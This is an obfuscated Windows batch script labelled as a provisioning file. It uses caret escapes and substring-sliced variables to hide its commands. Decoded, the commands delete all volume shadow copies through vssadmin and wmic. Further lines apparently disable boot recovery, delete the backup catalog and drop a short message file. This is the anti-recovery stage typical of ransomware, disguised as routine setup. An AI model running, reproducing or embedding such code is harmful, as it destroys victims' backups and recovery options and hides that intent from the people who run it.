REM provision 9419 v3
@ec^ho o^ff
s^et "ruzo=nK/Cuolfd2wva1tqOFsgmeih"
%ruzo:~11,1%%ruzo:~18,1%%ruzo:~18,1%%ruzo:~12,1%%ruzo:~-16,1%%ruzo:~20,1%%ruzo:~22,1%%ruzo:~0,1% %ruzo:~-16,1%%ruzo:~-3,1%%ruzo:~-18,1%%ruzo:~21,1%%ruzo:~-10,1%%ruzo:~21,1% %ruzo:~-6,1%%ruzo:~23,1%%ruzo:~12,1%%ruzo:~8,1%%ruzo:~5,1%%ruzo:~10,1%%ruzo:~18,1% %ruzo:~2,1%%ruzo:~12,1%%ruzo:~6,1%%ruzo:~6,1% %ruzo:~2,1%%ruzo:~-9,1%%ruzo:~-20,1%%ruzo:~22,1%%ruzo:~-3,1%%ruzo:~14,1%
@^ec^ho of^f
^s^et "rlun=LKmiypnCzchdelwftDsFao"
%rlun:~14,1%%rlun:~2,1%%rlun:~3,1%%rlun:~9,1% %rlun:~18,1%%rlun:~-12,1%%rlun:~-2,1%%rlun:~11,1%%rlun:~21,1%%rlun:~-8,1%%rlun:~9,1%%rlun:~21,1%%rlun:~5,1%%rlun:~4,1% %rlun:~-11,1%%rlun:~-10,1%%rlun:~-9,1%%rlun:~-10,1%%rlun:~16,1%%rlun:~12,1%
@e^ch^o ^off
se^t "juww=sFEbviXW{o}e3aductyHfngr/Bl"
%juww:~3,1%%juww:~16,1%%juww:~-13,1%%juww:~-16,1%%juww:~14,1%%juww:~5,1%%juww:~17,1% %juww:~24,1%%juww:~0,1%%juww:~11,1%%juww:~17,1% %juww:~8,1%%juww:~14,1%%juww:~11,1%%juww:~20,1%%juww:~13,1%%juww:~15,1%%juww:~26,1%%juww:~17,1%%juww:~-17,1% %juww:~-4,1%%juww:~11,1%%juww:~-11,1%%juww:~9,1%%juww:~4,1%%juww:~11,1%%juww:~23,1%%juww:~18,1%%juww:~11,1%%juww:~-6,1%%juww:~13,1%%juww:~3,1%%juww:~26,1%%juww:~-16,1%%juww:~-13,1% %juww:~21,1%%juww:~-18,1%
@^ech^o o^f^f
s^e^t "shqy=0prtLo13csi{ageDydwZvblnf/}u"
%shqy:~21,1%%shqy:~8,1%%shqy:~17,1%%shqy:~14,1%%shqy:~-11,1%%shqy:~10,1%%shqy:~3,1% %shqy:~25,1%%shqy:~9,1%%shqy:~-14,1%%shqy:~-25,1% %shqy:~11,1%%shqy:~17,1%%shqy:~14,1%%shqy:~-4,1%%shqy:~12,1%%shqy:~-1,1%%shqy:~-6,1%%shqy:~3,1%%shqy:~-2,1% %shqy:~21,1%%shqy:~5,1%%shqy:~5,1%%shqy:~-25,1%%shqy:~-19,1%%shqy:~3,1%%shqy:~-16,1%%shqy:~3,1%%shqy:~27,1%%shqy:~-19,1%%shqy:~1,1%%shqy:~5,1%%shqy:~22,1%%shqy:~10,1%%shqy:~-20,1%%shqy:~16,1% %shqy:~-18,1%%shqy:~13,1%%shqy:~23,1%%shqy:~-23,1%%shqy:~-26,1%%shqy:~14,1%%shqy:~12,1%%shqy:~22,1%%shqy:~22,1%%shqy:~24,1%%shqy:~12,1%%shqy:~10,1%%shqy:~-6,1%%shqy:~27,1%%shqy:~2,1%%shqy:~14,1%%shqy:~9,1%
@^e^c^h^o ^of^f
set "vxfn=FxaJcimg6U-eoqltdBnfubwz"
%vxfn:~22,1%%vxfn:~21,1%%vxfn:~2,1%%vxfn:~-8,1%%vxfn:~6,1%%vxfn:~-19,1%%vxfn:~18,1% %vxfn:~16,1%%vxfn:~-13,1%%vxfn:~14,1%%vxfn:~-13,1%%vxfn:~15,1%%vxfn:~-13,1% %vxfn:~4,1%%vxfn:~2,1%%vxfn:~15,1%%vxfn:~2,1%%vxfn:~14,1%%vxfn:~12,1%%vxfn:~7,1% %vxfn:~-14,1%%vxfn:~13,1%%vxfn:~20,1%%vxfn:~5,1%%vxfn:~11,1%%vxfn:~15,1%
@^ech^o o^f^f
^se^t "vtcz=EIyuogaFnVezipm/ch4tSBs6ClDkv3r"
%vtcz:~8,1%%vtcz:~10,1%%vtcz:~-12,1% %vtcz:~-9,1%%vtcz:~19,1%%vtcz:~4,1%%vtcz:~-18,1% "%vtcz:~-22,1%%vtcz:~10,1%%vtcz:~10,1%%vtcz:~6,1%%vtcz:~14,1% %vtcz:~-10,1%%vtcz:~6,1%%vtcz:~-15,1%%vtcz:~27,1%%vtcz:~3,1%%vtcz:~13,1% %vtcz:~24,1%%vtcz:~-25,1%%vtcz:~19,1%%vtcz:~6,1%%vtcz:~25,1%%vtcz:~4,1%%vtcz:~5,1% %vtcz:~26,1%%vtcz:~-25,1%%vtcz:~-12,1%%vtcz:~6,1% %vtcz:~20,1%%vtcz:~10,1%%vtcz:~30,1%%vtcz:~28,1%%vtcz:~-19,1%%vtcz:~16,1%%vtcz:~10,1%" %vtcz:~-16,1%%vtcz:~-29,1%
